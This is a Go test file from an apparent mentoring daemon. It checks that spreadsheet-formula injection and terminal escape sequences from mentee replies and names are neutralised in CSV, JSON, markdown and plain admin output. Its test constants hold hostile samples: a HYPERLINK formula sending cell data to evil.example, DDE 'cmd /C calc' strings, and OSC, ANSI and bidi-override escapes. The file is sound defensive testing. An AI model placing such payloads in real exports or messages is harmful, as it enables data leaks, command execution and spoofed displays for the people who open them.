package main

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jmoiron/sqlx"

	"github.com/mentord/mentord/daemon/compose"
	"github.com/mentord/mentord/daemon/config"
	"github.com/mentord/mentord/daemon/store"
	"github.com/mentord/mentord/templates"
)

// Text a mentee (or anyone who can put words in the database) wrote, as a
// hostile one would: spreadsheet formulas, and terminal escapes that set the
// window title (OSC), ring the bell, colour the text and reverse it (bidi).
const (
	formulaAnswer = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	escapes       = "\x1b]0;pwned\x07\x1b[31mred\u009b2J\u202egnp.exe"
)

// withDB opens the harness's database and configuration.
func (h *harness) withDB(fn func(ctx context.Context, db *store.DB, cfg *config.Config)) {
	h.t.Helper()
	cfg, err := config.Load(h.config)
	if err != nil {
		h.t.Fatal(err)
	}
	db, err := store.Open(context.Background(), cfg.Database.Path)
	if err != nil {
		h.t.Fatal(err)
	}
	defer db.Close()
	fn(context.Background(), db, cfg)
}

// replyToChecklist has the daemon compose pair 1's first checklist (as its
// schedule would on 9 January) and feeds the mentee's reply through
// `mentord ingest`, as if read from the mailbox.
func (h *harness) replyToChecklist(typed string) {
	h.t.Helper()
	var msgID string
	h.withDB(func(ctx context.Context, db *store.DB, cfg *config.Config) {
		tpl, err := templates.Load("")
		if err != nil {
			h.t.Fatal(err)
		}
		at := time.Date(2027, 1, 9, 9, 0, 0, 0, time.UTC)
		if _, err := compose.Plan(ctx, db, cfg, tpl, at, slog.New(slog.DiscardHandler)); err != nil {
			h.t.Fatal(err)
		}
		if err := db.R().Get(&msgID, `SELECT message_id FROM outbox WHERE kind = 'checklist'`); err != nil {
			h.t.Fatal(err)
		}
	})
	raw := strings.ReplaceAll(fmt.Sprintf(`From: Bo Mentee <bo@example.org>
To: mentoring@example.org
Subject: Re: Planning
Date: Sat, 9 Jan 2027 18:30:00 +0100
Message-ID: <reply-1@mail.example.org>
In-Reply-To: <%s>
References: <%s>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

%s
`, msgID, msgID, typed), "\n", "\r\n")
	file := filepath.Join(h.t.TempDir(), "reply.eml")
	if err := os.WriteFile(file, []byte(raw), 0o600); err != nil {
		h.t.Fatal(err)
	}
	if out := h.mustRun("ingest", file); !strings.Contains(out, "logged") {
		h.t.Fatalf("ingest: %s", out)
	}
}

// noControls fails when out holds a character that a terminal acts on.
func noControls(t *testing.T, what, out string) {
	t.Helper()
	for _, r := range out {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
			t.Errorf("%s holds control character %U:\n%q", what, r, out)
			return
		}
	}
}

// CSV cells that a spreadsheet would run as a formula are neutralised with a
// leading single quote (OWASP "CSV Injection"), and no admin-facing output,
// in any format, carries a character a terminal would act on.
func TestHostileTextReachesTheAdminHarmless(t *testing.T) {
	h := newHarness(t)
	pair := append(append([]string(nil), pairArgs...), "--mentor-name", "@SUM(1+1)*cmd|' /C calc'!A0")
	h.mustRun(pair...)
	h.replyToChecklist("1. " + formulaAnswer + "\n\n2. +cmd|' /C calc'!A0\n\n3. -2+3 " + escapes + "\n\n4. \tTabbed")
	// Stored before names were checked on the way in (or by another tool).
	h.withDB(func(ctx context.Context, db *store.DB, _ *config.Config) {
		err := db.Tx(ctx, func(tx *sqlx.Tx) error {
			_, err := tx.Exec(`UPDATE people SET name = ? WHERE email = 'bo@example.org'`, "Bo "+escapes)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	})

	rows, err := csv.NewReader(strings.NewReader(h.mustRun("log", "--mentee", "bo@example.org", "--format", "csv"))).ReadAll()
	if err != nil || len(rows) < 5 {
		t.Fatalf("log --format csv = %q, %v", rows, err)
	}
	answers := map[string]string{}
	for _, r := range rows[1:] {
		answers[r[6]] = r[8]
	}
	for no, want := range map[string]string{"1": "'" + formulaAnswer, "2": "'+cmd|' /C calc'!A0", "3": "'-2+3 ]0;pwned[31mred2Jgnp.exe",
		"4": "Tabbed"} {
		if answers[no] != want {
			t.Errorf("log CSV answer %s = %q, want %q", no, answers[no], want)
		}
	}
	rows, err = csv.NewReader(strings.NewReader(h.mustRun("report", "--format", "csv"))).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][2] != "'@SUM(1+1)*cmd|' /C calc'!A0" {
		t.Errorf("report --format csv = %q, %v", rows, err)
	}
	for _, args := range [][]string{
		{"log", "--mentee", "bo@example.org"}, {"log", "--mentee", "bo@example.org", "--format", "markdown"},
		{"log", "--mentee", "bo@example.org", "--format", "csv"}, {"log", "--mentee", "bo@example.org", "--format", "json"},
		{"report"}, {"report", "--format", "markdown"}, {"report", "--format", "csv"}, {"report", "--format", "json"},
		{"pair", "list"}, {"pair", "list", "--json"}, {"pair", "show", "1"}, {"pair", "show", "1", "--json"},
		{"session", "list", "--pair", "1"}, {"status"}, {"status", "--json"},
	} {
		code, out, errOut := h.run(args...)
		if code != 0 {
			t.Errorf("mentord %s = %d %s", strings.Join(args, " "), code, errOut)
		}
		noControls(t, "mentord "+strings.Join(args, " "), out+errOut)
		if !strings.Contains(strings.Join(args, " "), "report") && !strings.Contains(out, "gnp.exe") && args[0] != "status" && args[0] != "session" {
			t.Errorf("mentord %s lost the text around the escapes:\n%s", strings.Join(args, " "), out)
		}
	}
	_ = io.Discard
}
